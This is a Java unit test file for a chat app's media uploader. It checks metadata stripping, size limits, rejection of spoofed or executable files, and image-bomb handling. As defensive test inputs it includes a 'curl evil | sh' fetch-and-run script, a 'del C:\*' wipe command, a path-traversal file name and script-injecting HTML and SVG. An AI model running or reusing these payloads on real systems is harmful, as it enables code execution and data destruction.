package dev.parley.media;

import static dev.parley.media.MediaFixtures.*;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.parley.core.spi.BlobInfo;
import dev.parley.media.internal.ImageHeaders;
import dev.parley.media.internal.RandomReader;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.EnumSet;
import java.util.List;
import java.util.stream.Stream;
import javax.imageio.ImageIO;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class MediaUploaderTest {
    @TempDir
    Path dir;
    FileSystemBlobStore blobs;
    MediaUploader uploader;

    @BeforeEach
    void open() throws IOException {
        blobs = FileSystemBlobStore.open(dir);
        uploader = new MediaUploader(blobs, MediaPolicy.defaults());
    }

    @AfterEach
    void close() throws IOException {
        blobs.close();
    }

    private UploadedMedia upload(byte[] bytes, String name) throws IOException {
        return uploader.upload(new ByteArrayInputStream(bytes), name);
    }

    private byte[] read(String id) throws IOException {
        try (InputStream in = blobs.open(id, 0)) {
            return in.readAllBytes();
        }
    }

    private List<String> stored() throws IOException {
        try (Stream<BlobInfo> all = blobs.list()) {
            return all.map(BlobInfo::id).toList();
        }
    }

    private void assertRefused(ThrowingCallable call, MediaException.Reason reason) throws IOException {
        assertThatThrownBy(call).isInstanceOf(MediaException.class)
                .satisfies(e -> assertThat(((MediaException) e).reason()).isEqualTo(reason))
                .satisfies(e -> assertThat(((MediaException) e).code()).isEqualTo(reason.code()));
        assertThat(stored()).as("a refused upload leaves nothing").isEmpty();
    }

    // ---- accepted uploads ----

    @Test
    void jpegIsStoredWithoutMetadataAndWithAPreview() throws IOException {
        byte[] photo = jpegWithMetadata(1200, 800, 1);
        UploadedMedia media = upload(photo, "holiday.jpg");

        assertThat(media.info().type()).isEqualTo(MediaType.JPEG);
        assertThat(media.info().width()).isEqualTo(1200);
        assertThat(media.info().height()).isEqualTo(800);
        assertThat(media.fileName()).isEqualTo("holiday.jpg");
        byte[] served = read(media.info().id());
        assertThat(media.info().size()).isEqualTo(served.length);
        assertThat(contains(served, "GPS-SECRET")).isFalse();
        assertThat(contains(served, "GPS-XMP-SECRET")).isFalse();
        assertThat(contains(served, "TRAILER-WITH-GPS")).isFalse();
        assertThat(ImageIO.read(new ByteArrayInputStream(served)).getWidth()).isEqualTo(1200);
        assertThat(media.preview()).isNotNull();
        assertThat(media.preview().width()).isEqualTo(320);
        assertThat(media.preview().height()).isEqualTo(213);
        BufferedImage preview = ImageIO.read(new ByteArrayInputStream(read(media.preview().id())));
        assertThat(preview.getWidth()).isEqualTo(320);
        assertThat(stored()).as("original with GPS removed; served copy and preview kept")
                .containsExactlyInAnyOrderElementsOf(media.blobIds());
    }

    @Test
    void rotatedJpegKeepsItsOrientationAndGetsAnUprightPreview() throws IOException {
        UploadedMedia media = upload(jpegWithMetadata(400, 200, 6), "portrait.jpg");
        assertThat(media.info().orientation()).isEqualTo(6);
        assertThat(orientationOf(read(media.info().id()))).isEqualTo(6);
        assertThat(media.preview().width()).isEqualTo(160);
        assertThat(media.preview().height()).isEqualTo(320);
    }

    @Test
    void sameUploadTwiceIsDeduplicated() throws IOException {
        byte[] photo = jpegWithMetadata(300, 300, 1);
        UploadedMedia first = upload(photo, "a.jpg");
        UploadedMedia second = upload(photo, "b.jpg");
        assertThat(second.info().id()).isEqualTo(first.info().id());
        assertThat(second.preview().id()).isEqualTo(first.preview().id());
        assertThat(stored()).hasSize(2);
    }

    @Test
    void deletingTheLastReferenceRemovesTheBlobs() throws IOException {
        UploadedMedia media = upload(png(100, 50), "p.png");
        for (String id : media.blobIds()) {
            assertThat(blobs.delete(id)).isTrue();
        }
        assertThat(stored()).isEmpty();
    }

    @Test
    void transparentPngGetsAPngPreview() throws IOException {
        UploadedMedia media = upload(pngWithAlpha(640, 640), "logo.png");
        assertThat(media.preview().type()).isEqualTo(MediaType.PNG);
        assertThat(media.preview().width()).isEqualTo(320);
    }

    @Test
    void animatedGifPreviewIsItsFirstFrame() throws IOException {
        UploadedMedia media = upload(animatedGif(64, 32, 3, true), "anim.gif");
        assertThat(media.info().animated()).isTrue();
        assertThat(media.preview()).isNotNull();
        BufferedImage preview = ImageIO.read(new ByteArrayInputStream(read(media.preview().id())));
        assertThat(preview.getRGB(10, 10) & 0xFFFFFF).as("first frame is green").isGreaterThan(0).satisfies(rgb ->
                assertThat((rgb >> 8) & 0xFF).isGreaterThan(200));
        assertThat(contains(read(media.info().id()), "GIF-COMMENT-SECRET")).isFalse();
    }

    @Test
    void webpIsStrippedAndPreviewed() throws IOException {
        UploadedMedia media = upload(resource("lossy-exif-xmp.webp"), "sticker.webp");
        assertThat(media.info().type()).isEqualTo(MediaType.WEBP);
        assertThat(media.info().width()).isEqualTo(64);
        assertThat(media.preview()).as("TwelveMonkeys decodes WebP").isNotNull();
        assertThat(contains(read(media.info().id()), "GPSLatitude")).isFalse();
    }

    @Test
    void voiceMessageGetsDurationAndWaveform() throws IOException {
        UploadedMedia media = upload(resource("voice.opus"), "voice.ogg");
        assertThat(media.info().kind()).isEqualTo(MediaKind.AUDIO);
        assertThat(media.info().durationMillis()).isBetween(1990L, 2010L);
        assertThat(media.info().waveform()).hasSize(64);
        assertThat(media.preview()).isNull();
        assertThat(media.blobIds()).containsExactly(media.info().id());
    }

    @Test
    void documentsKeepTheirBytes() throws IOException {
        byte[] docx = zip("[Content_Types].xml", "word/document.xml");
        UploadedMedia media = upload(docx, "report.docx");
        assertThat(media.info().type()).isEqualTo(MediaType.DOCX);
        assertThat(read(media.info().id())).isEqualTo(docx);
        assertThat(media.fileName()).isEqualTo("report.docx");
    }

    @Test
    void textNamedAsABatchFileGetsATextExtension() throws IOException {
        UploadedMedia media = upload("del C:\\*\r\n".getBytes(StandardCharsets.US_ASCII), "../../run.bat");
        assertThat(media.info().type()).isEqualTo(MediaType.TEXT);
        assertThat(media.fileName()).isEqualTo("run.bat.txt");
    }

    // ---- limits ----

    @Test
    void eachKindHasItsOwnLimit() throws IOException {
        MediaPolicy small = MediaPolicy.builder().maxBytes(MediaKind.IMAGE, 2000).maxBytes(MediaKind.DOCUMENT, 3000)
                .maxBytes(MediaKind.AUDIO, 4000).maxBytes(MediaKind.VIDEO, 6000).build();
        uploader = new MediaUploader(blobs, small);

        assertRefused(() -> upload(noisyPng(40, 40), "big.png"), MediaException.Reason.TOO_LARGE);
        assertRefused(() -> upload(pdf(1000), "big.pdf"), MediaException.Reason.TOO_LARGE);
        assertRefused(() -> upload(wav(loudThenQuiet(100)), "big.wav"), MediaException.Reason.TOO_LARGE);
        assertRefused(() -> upload(mp4("isom", true, 1000, 7000), "big.mp4"), MediaException.Reason.TOO_LARGE);
        assertThat(upload(mp4("isom", true, 1000, 5000), "ok.mp4").info().type()).isEqualTo(MediaType.MP4_VIDEO);
    }

    @Test
    void audioInAVideoContainerIsHeldToTheAudioLimitOnceItsTracksAreKnown() throws IOException {
        MediaPolicy small = MediaPolicy.builder().maxBytes(MediaKind.AUDIO, 4000).maxBytes(MediaKind.VIDEO, 9000).build();
        uploader = new MediaUploader(blobs, small);
        assertRefused(() -> upload(mp4("isom", false, 1000, 5000), "song.mp4"), MediaException.Reason.TOO_LARGE);
    }

    @Test
    void exactlyAtTheLimitIsAccepted() throws IOException {
        byte[] text = new byte[3000];
        Arrays.fill(text, (byte) 'x');
        uploader = new MediaUploader(blobs, MediaPolicy.builder().maxBytes(MediaKind.DOCUMENT, 3000)
                .maxBytes(MediaKind.OTHER, 3000).build());
        assertThat(upload(text, "x.txt").info().size()).isEqualTo(3000);
        text = Arrays.copyOf(text, 3001);
        Arrays.fill(text, (byte) 'y');
        byte[] over = text;
        assertThatThrownBy(() -> upload(over, "y.txt")).isInstanceOf(MediaException.class)
                .extracting(e -> ((MediaException) e).reason()).isEqualTo(MediaException.Reason.TOO_LARGE);
    }

    @Test
    void overTheLimitStopsReadingTheUpload() throws IOException {
        MediaPolicy small = MediaPolicy.builder().maxBytes(MediaKind.IMAGE, 100_000).build();
        uploader = new MediaUploader(blobs, small);
        byte[] head = png(16, 16);
        long[] read = {0};
        InputStream endless = new InputStream() {
            @Override
            public int read() {
                return read(new byte[1], 0, 1) < 0 ? -1 : 0;
            }

            @Override
            public int read(byte[] b, int off, int len) {
                int n = len;
                for (int i = 0; i < n; i++) {
                    long at = read[0] + i;
                    b[off + i] = at < head.length ? head[(int) at] : 0;
                }
                read[0] += n;
                return n;
            }
        };
        assertThatThrownBy(() -> uploader.upload(endless, "endless.png")).isInstanceOf(MediaException.class);
        assertThat(read[0]).isLessThan(200_000);
        assertThat(stored()).isEmpty();
    }

    // ---- spoofed and refused types ----

    @Test
    void executableNamedPngIsRefused() throws IOException {
        assertRefused(() -> upload(windowsExe(), "cute-cat.png"), MediaException.Reason.EXECUTABLE);
        assertRefused(() -> upload(elf(), "photo.jpg"), MediaException.Reason.EXECUTABLE);
        assertRefused(() -> upload(machO(), "photo.gif"), MediaException.Reason.EXECUTABLE);
    }

    @Test
    void scriptWithAnImageExtensionIsRefused() throws IOException {
        assertRefused(() -> upload("#!/bin/bash\ncurl evil | sh\n".getBytes(StandardCharsets.US_ASCII), "image.jpg"),
                MediaException.Reason.EXECUTABLE);
    }

    @Test
    void jarDisguisedAsAZipIsRefusedAfterItsEntriesAreRead() throws IOException {
        assertRefused(() -> upload(zip("META-INF/MANIFEST.MF", "a/B.class"), "archive.zip"), MediaException.Reason.EXECUTABLE);
    }

    @Test
    void markupAndUnknownBinaryAreNotAllowedByDefault() throws IOException {
        assertRefused(() -> upload("<html><script>steal()</script>".getBytes(StandardCharsets.UTF_8), "page.png"),
                MediaException.Reason.TYPE_NOT_ALLOWED);
        assertRefused(() -> upload("<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>".getBytes(StandardCharsets.UTF_8),
                "icon.svg"), MediaException.Reason.TYPE_NOT_ALLOWED);
        byte[] binary = new byte[500];
        new java.util.Random(3).nextBytes(binary);
        binary[0] = 0;
        assertRefused(() -> upload(binary, "data.bin"), MediaException.Reason.TYPE_NOT_ALLOWED);
        assertRefused(() -> upload(ole2("SummaryInformation"), "setup.msi"), MediaException.Reason.TYPE_NOT_ALLOWED);
    }

    @Test
    void allowListIsConfigurable() throws IOException {
        uploader = new MediaUploader(blobs, MediaPolicy.builder().allowedTypes(EnumSet.of(MediaType.PNG, MediaType.OCTET_STREAM)).build());
        assertRefused(() -> upload(jpeg(10, 10), "a.jpg"), MediaException.Reason.TYPE_NOT_ALLOWED);
        byte[] binary = {0, 1, 2, 3, (byte) 0xFF};
        assertThat(upload(binary, "blob").fileName()).isEqualTo("blob.bin");
    }

    // ---- image bombs and broken images ----

    @Test
    void pngClaiming100000x100000IsRefusedBeforeAnythingIsStored() throws IOException {
        assertRefused(() -> upload(pngHeader(100_000, 100_000), "bomb.png"), MediaException.Reason.DIMENSIONS_TOO_LARGE);
    }

    @Test
    void imageOverThePixelLimitButWithinTheEdgeLimitIsRefused() throws IOException {
        assertRefused(() -> upload(pngHeader(10_000, 10_000), "big.png"), MediaException.Reason.DIMENSIONS_TOO_LARGE);
    }

    @Test
    void jpegWhoseFrameHeaderLiesBeyondThePrefixIsCheckedOnceStored() throws IOException {
        assertRefused(() -> upload(jpegHeader(60_000, 60_000, 100_000), "bomb.jpg"), MediaException.Reason.DIMENSIONS_TOO_LARGE);
    }

    @Test
    void gifFrameLargerThanItsScreenIsRefused() throws IOException {
        byte[] gif = animatedGif(8, 8, 1, false);
        // first image descriptor after the 13-byte header, the global colour table and extensions:
        int at = firstImageDescriptor(gif);
        gif[at + 5] = (byte) 0x50;
        gif[at + 6] = (byte) 0xC3; // width 50000
        gif[at + 7] = (byte) 0x50;
        gif[at + 8] = (byte) 0xC3; // height 50000
        byte[] bomb = gif;
        assertRefused(() -> upload(bomb, "frame.gif"), MediaException.Reason.DIMENSIONS_TOO_LARGE);
    }

    @Test
    void truncatedImagesAreRefused() throws IOException {
        byte[] png = png(300, 300);
        assertRefused(() -> upload(Arrays.copyOf(png, png.length / 2), "half.png"), MediaException.Reason.MALFORMED);
        byte[] jpeg = jpeg(300, 300);
        assertRefused(() -> upload(Arrays.copyOf(jpeg, jpeg.length - 100), "half.jpg"), MediaException.Reason.MALFORMED);
        assertRefused(() -> upload(Arrays.copyOf(png, 20), "header.png"), MediaException.Reason.MALFORMED);
        byte[] gif = animatedGif(30, 30, 2, false);
        assertRefused(() -> upload(Arrays.copyOf(gif, gif.length - 10), "half.gif"), MediaException.Reason.MALFORMED);
        byte[] webp = resource("lossy.webp");
        assertRefused(() -> upload(Arrays.copyOf(webp, webp.length - 40), "half.webp"), MediaException.Reason.MALFORMED);
    }

    @Test
    void refusalAfterStoringKeepsABlobThatExistedBefore() throws IOException {
        byte[] jar = zip("META-INF/MANIFEST.MF");
        uploader = new MediaUploader(blobs, MediaPolicy.builder().allowedTypes(EnumSet.of(MediaType.JAVA_ARCHIVE)).build());
        String id = upload(jar, "tool.jar").info().id();
        uploader = new MediaUploader(blobs, MediaPolicy.defaults());
        assertThatThrownBy(() -> upload(jar, "tool.zip")).isInstanceOf(MediaException.class);
        assertThat(stored()).containsExactly(id);
    }

    /** The EXIF orientation a viewer reads from a stored JPEG. */
    private static int orientationOf(byte[] jpeg) throws IOException {
        return ImageHeaders.read(RandomReader.of(jpeg, jpeg.length), MediaType.JPEG).orientation();
    }
}
